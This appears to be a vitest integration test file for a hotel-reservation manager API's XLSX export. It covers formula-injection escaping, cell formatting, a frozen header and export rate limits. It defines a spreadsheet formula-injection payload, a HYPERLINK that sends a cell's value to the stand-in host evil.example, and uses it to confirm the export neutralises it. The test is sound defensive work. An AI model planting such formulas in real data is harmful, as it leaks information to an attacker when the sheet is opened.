import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { addDays, todayInSeoul } from '@shim/common/dates';
import { CONSOLE_MESSAGES } from '@shim/common/console-messages';
import { statusLabel } from '@shim/common/reservations';
import { startTestApp, type TestApp } from '../../../test/harness';
import { createUser, loginAs } from '../../../test/fixtures';
import { book, bookingScenario } from '../../../test/booking-fixtures';
import { exportQueueCounts } from '../../platform/spreadsheets';
import { Reservation } from './reservation.entity';

/** One export per manager and two in the process, so the third caller meets each limit. */
let app: TestApp;
let tokens: { a: string; b: string; c: string };
let reservationId: number;
let bookingNumber: string;
const PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
const period = `from=${todayInSeoul()}&to=${addDays(todayInSeoul(), 30)}`;

beforeAll(async () => {
  app = await startTestApp({ EXPORTS_PER_USER: '1', EXPORTS_MAX_IN_FLIGHT: '2' });
  const [a, b, c] = await Promise.all(['A', 'B', 'C'].map((n) => createUser(app.orm, 'ROLE_MANAGER', { name: n })));
  tokens = {
    a: (await loginAs(app, a!.email)).accessToken,
    b: (await loginAs(app, b!.email)).accessToken,
    c: (await loginAs(app, c!.email)).accessToken,
  };
  const s = await bookingScenario(app, { basePrice: 80_000, unitCount: 2 }, { manager: a!, name: '-마이너스 호텔' });
  const guest = await book(app, s.body(3, 1, { phone: '01012345678', guestName: '박비회' }));
  reservationId = guest.prepared.reservationId;
  bookingNumber = guest.prepared.bookingNumber;
  // The name as an older client or an import may have stored it (today's form allows letters only).
  await app.orm.em.fork().nativeUpdate(Reservation, { id: reservationId }, { guestName: PAYLOAD });
});
afterAll(() => app.close());

const exportOf = (token: string) =>
  fetch(`${app.url}/api/manager/reservations/export.xlsx?${period}`, { headers: { authorization: `Bearer ${token}` } });

const until = async (ready: () => boolean) => {
  while (!ready()) await new Promise((resolve) => setTimeout(resolve, 5));
};

describe('GET /api/manager/reservations/export.xlsx', () => {
  it('writes a guest or lodging name that reads as a formula as plain text starting with an apostrophe', async () => {
    const response = await exportOf(tokens.a);
    expect(response.status).toBe(200);
    const book = XLSX.read(Buffer.from(await response.arrayBuffer()), { cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      예약번호: bookingNumber,
      '예약 ID': reservationId,
      '회원 구분': '비회원',
      예약자: `'${PAYLOAD}`,
      연락처: '01012345678',
      숙소: "'-마이너스 호텔",
      '박 수': 1,
      상태: statusLabel('CONFIRMED'),
      '환불 금액(원)': 0,
      '예약 일시': expect.any(Number),
    });
    const guestCell = sheet['E2'] as XLSX.CellObject;
    expect(guestCell).toMatchObject({ t: 's', v: `'${PAYLOAD}` });
    expect(guestCell.f).toBeUndefined();
    expect(sheet['A2']).toMatchObject({ t: 's', v: bookingNumber });
    expect(sheet['B2']).toMatchObject({ t: 'n', v: reservationId });
  });

  it('writes stay days and the booking moment as dates, won and counts as formatted numbers, header frozen', async () => {
    const bytes = Buffer.from(await (await exportOf(tokens.a)).arrayBuffer());
    const book = XLSX.read(bytes, { cellNF: true, cellStyles: true });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const checkIn = addDays(todayInSeoul(), 3);
    // 체크인 (I), 체크아웃 (J), 박 수 (K), 결제 금액 (O), 환불 금액 (P), 예약 일시 (Q)
    expect(sheet['I2']).toMatchObject({ t: 'n', z: 'yyyy-mm-dd', w: checkIn });
    expect(sheet['J2']).toMatchObject({ t: 'n', z: 'yyyy-mm-dd', w: addDays(checkIn, 1) });
    expect(sheet['K2']).toMatchObject({ t: 'n', v: 1, z: '#,##0' });
    const paid = sheet['O2'] as XLSX.CellObject;
    expect(paid).toMatchObject({ t: 'n', z: '#,##0"원"' });
    expect(paid.v).toBeGreaterThanOrEqual(80_000);
    expect(paid.w).toBe(`${(paid.v as number).toLocaleString('en-US')}원`);
    expect(sheet['P2']).toMatchObject({ t: 'n', v: 0, z: '#,##0"원"', w: '0원' });
    expect(sheet['Q2']).toMatchObject({ t: 'n', z: 'yyyy-mm-dd hh:mm' });
    // Booked just now: the moment reads as Seoul's wall clock today.
    expect((sheet['Q2'] as XLSX.CellObject).w).toMatch(new RegExp(`^${todayInSeoul()} \\d{2}:\\d{2}$`));
    expect(XLSX.read(bytes, { cellDates: true }).Sheets[book.SheetNames[0]!]!['I2']).toMatchObject({ t: 'd' });
    const zip = XLSX.CFB.read(bytes, { type: 'buffer' });
    const xml = Buffer.from((XLSX.CFB.find(zip, '/xl/worksheets/sheet1.xml') as { content: Uint8Array }).content);
    expect(xml.toString('utf8')).toContain(
      '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>',
    );
    // The guest's 45-character name widens its column past the default; the booking moment fits 16 characters.
    const widths = sheet['!cols']!.map((column) => column.wch!);
    expect(widths[4]).toBeGreaterThan(PAYLOAD.length);
    expect(widths[16]).toBeGreaterThanOrEqual(16);
  });

  it('admits one export per user and two per process; beyond, 429 with Retry-After; /readyz answers meanwhile', async () => {
    // Held in their read of the bookings, the first two exports stay in flight until the lock is let go.
    const lock = new pg.Client({ connectionString: app.config.DATABASE_URL });
    await lock.connect();
    await lock.query('begin');
    await lock.query('lock table reservations in access exclusive mode');
    try {
      const first = exportOf(tokens.a);
      await until(() => exportQueueCounts().inFlight === 1);
      const again = await exportOf(tokens.a);
      expect(again.status).toBe(429);
      expect(again.headers.get('retry-after')).toMatch(/^[1-9]\d*$/);
      expect(await again.json()).toEqual({ message: CONSOLE_MESSAGES.exportAlreadyRunning });

      const second = exportOf(tokens.b);
      await until(() => exportQueueCounts().inFlight === 2);
      const third = await exportOf(tokens.c);
      expect(third.status).toBe(429);
      expect(third.headers.get('retry-after')).toMatch(/^[1-9]\d*$/);
      expect(await third.json()).toEqual({ message: CONSOLE_MESSAGES.exportsBusy });
      expect((await fetch(`${app.url}/readyz`)).status).toBe(200);

      await lock.query('rollback');
      const [a, b] = await Promise.all([first, second]);
      expect([a.status, b.status]).toEqual([200, 200]);
      const rowsOf = async (response: Response) => {
        const book = XLSX.read(Buffer.from(await response.arrayBuffer()));
        return XLSX.utils.sheet_to_json(book.Sheets[book.SheetNames[0]!]!);
      };
      expect(await rowsOf(a)).toHaveLength(1);
      expect(await rowsOf(b)).toEqual([]);
    } finally {
      await lock.end();
    }
    expect(exportQueueCounts()).toEqual({ inFlight: 0, waiting: 0, building: 0 });
    expect((await exportOf(tokens.c)).status).toBe(200);
  });
});
